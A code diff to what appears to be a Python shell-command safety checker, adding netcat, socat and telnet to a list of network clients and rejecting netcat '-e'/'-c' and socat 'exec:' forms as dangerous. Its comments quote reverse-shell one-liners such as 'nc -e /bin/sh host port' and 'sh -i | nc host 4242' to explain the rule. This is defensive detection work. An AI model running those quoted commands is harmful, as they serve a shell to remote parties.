@@ -38,6 +38,10 @@ _INTERPRETER = re.compile(r"(?:python|pypy|perl|ruby|node|nodejs|php|lua|deno|bu
                           r"[\d.]*")
 _DOWNLOADERS = frozenset({"curl", "wget", "fetch", "aria2c", "http", "https", "lwp-request",
                           "GET", "wget2", "curlie", "xh"})
+# Network clients: what they read can be a remote command stream, and what they write leaves
+# the machine (`nc host 4242 | sh`, `sh -i | nc host 4242`: a reverse shell).
+NETWORK_CLIENTS = frozenset({"nc", "ncat", "netcat", "socat", "telnet", "openssl-s_client"})
+_NC_EXEC = frozenset({"-e", "-c", "--exec", "--sh-exec", "--lua-exec"})
 _SQL_CLIENTS = frozenset({"psql", "mysql", "mariadb", "sqlite3", "sqlite", "duckdb"})
 _STDIN_NAMES = frozenset({"-", "/dev/stdin", "/dev/fd/0", "/proc/self/fd/0"})
 # Directories under / whose removal or world-writable permissions wreck a machine.
@@ -278,6 +282,14 @@ def _judge_command(name: str, argv: list[str], dls: list[bool],
     if name in _SQL_CLIENTS:
         return _judge_sql_client(name, argv, judge_sql)
     if name in _DOWNLOADERS:
+        return Cmd(argv, download=True)
+    if name in NETWORK_CLIENTS:
+        letters, _ = _short_flags(args)
+        if any(a in _NC_EXEC or a.startswith(("--exec=", "--sh-exec=")) for a in args) or \
+                (name != "socat" and ("e" in letters or "c" in letters)) or \
+                (name == "socat" and any(a.lower().startswith(("exec:", "system:"))
+                                         for a in args)):
+            raise Dangerous  # nc -e /bin/sh host port: a shell served to the network
         return Cmd(argv, download=True)
     if name in ("base64", "xxd", "openssl", "uudecode", "gunzip", "zcat", "gzip"):
         decode = (name == "base64" and any(a in ("-d", "--decode", "-D") for a in args)) or \
